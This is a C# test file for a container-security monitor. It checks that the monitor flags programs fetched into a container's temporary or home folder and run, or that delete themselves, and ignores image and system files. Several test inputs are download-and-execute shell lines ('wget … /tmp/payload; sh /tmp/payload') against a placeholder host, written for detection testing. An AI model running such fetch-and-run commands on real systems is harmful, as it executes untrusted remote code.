using Sallyport.Docker.Tests.Agent;
using Sallyport.Docker.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.Docker.Tests;

/// <summary>
/// Something is fetched into a temporary or a home folder of a container and run there, or takes itself away: the files are the container's own,
/// by another path than the one that it knows. What a container fetches for its system, for its work or to read, and what its image holds, is none.
/// </summary>
public sealed class DroppedProgramTests(ContainerLab lab)
{
    private const string Url = "http://v4.test/payload";
    private const string Dropped = "dropped-program-run";
    private const string Removed = "program-removed-itself";

    [Theory]
    [InlineData(Dropped, "/tmp/payload", "wget -q -O /tmp/payload $url; sh /tmp/payload")]
    [InlineData(Dropped, "/root/d/payload", "mkdir -p /root/d; wget -q -O /root/d/payload $url; sh /root/d/payload")]
    [InlineData(Dropped, "/tmp/busybox", "wget -q -O /dev/null $url; busybox cp /bin/busybox /tmp/busybox; /tmp/busybox true")]
    [InlineData(Removed, "/tmp/payload", "echo 'busybox rm /tmp/payload; sleep 0.2' > /tmp/payload; sh /tmp/payload")]
    public async Task A_program_of_a_containers_own_is_found(string id, string program, string script)
    {
        JobRun job = await RunAsync($"docker run --rm $image sh -ec \"{script}; echo ran; sleep 0.5\"", id);
        ReportedFinding finding = job.Report.Findings.FirstOrDefault(row => row.Id == id) ?? throw new Xunit.Sdk.XunitException(job.ToString());
        Assert.Equal(program, finding.Evidence["program"]);
        Assert.Equal(Assert.Single(job.Report.Containers).Id, finding.Evidence["container"]);
    }

    /// <summary>The process that a client brings into a container that is there, as every step of a job in one.</summary>
    [Fact]
    public async Task A_program_that_is_fetched_and_run_by_two_that_join_a_container_is_found()
    {
        JobRun job = await RunAsync("""
            id=$(docker run -d --rm $image sh -c 'while :; do sleep 1; done')
            docker exec $id sh -ec "wget -q -O /tmp/payload $url; sleep 0.3"
            docker exec $id sh -ec 'sh /tmp/payload; echo ran; sleep 0.3'; docker rm -f $id > /dev/null
            """, Dropped);
        Assert.Contains(job.Report.Findings, row => row.Id == Dropped && row.Evidence["program"] == "/tmp/payload");
    }

    [Theory]
    [InlineData("docker run --rm $image sh -ec \"wget -q -O /tmp/payload $url; cat /tmp/payload; echo ran; sleep 0.5\"")]
    [InlineData("docker run --rm $image sh -ec \"mkdir -p /usr/bin; wget -q -O /usr/bin/payload $url; sh /usr/bin/payload; echo ran; sleep 0.5\"")]
    [InlineData("docker run --rm -w /home/app/work $image sh -ec \"wget -q -O payload $url; sh /home/app/work/payload; echo ran; sleep 0.5\"")]
    [InlineData("docker run --rm $image sh -ec \"echo 'exit 0' > /tmp/made; sh /tmp/made; busybox rm /tmp/made; echo ran; sleep 0.5\"")]
    [InlineData("""
        mkdir -p context; echo 'exit 0' > context/tool; printf 'FROM %s\nCOPY tool /home/app/tool\n' $image > context/Dockerfile
        DOCKER_BUILDKIT=0 docker build -q -t of-image context; rm -r context
        docker run --rm of-image sh -ec "wget -q -O /dev/null $url; busybox chmod 755 /home/app/tool; sh /home/app/tool; echo ran; sleep 0.5"; docker rmi of-image
        """)]
    public async Task What_is_of_the_system_the_work_or_the_image_is_none(string script)
    {
        JobRun job = await RunAsync(script);
        Assert.True(job.Report.Findings.All(row => row.Id is not (Dropped or Removed)), job.ToString());
    }

    /// <param name="script">The job.</param>
    /// <param name="id">What must be found, which takes a look at a container that lives; null for nothing.</param>
    private async Task<JobRun> RunAsync(string script, string? id = null)
    {
        string[] command = ["sh", "-ec", $"image={BaseImage.Name} url={Url}; cd /run/lab/work\n{script}"];
        JobRun control = await lab.JobAsync(LabMode.Off, command);
        control.Succeeded();
        Assert.Contains("ran", control.Output, StringComparison.Ordinal);
        return await ContainerLab.UntilAsync(run => id is null || run.Report.Findings.Any(row => row.Id == id), async () =>
        {
            JobRun run = await lab.JobAsync(LabMode.Audit, command);
            run.Succeeded();
            return run;
        });
    }
}
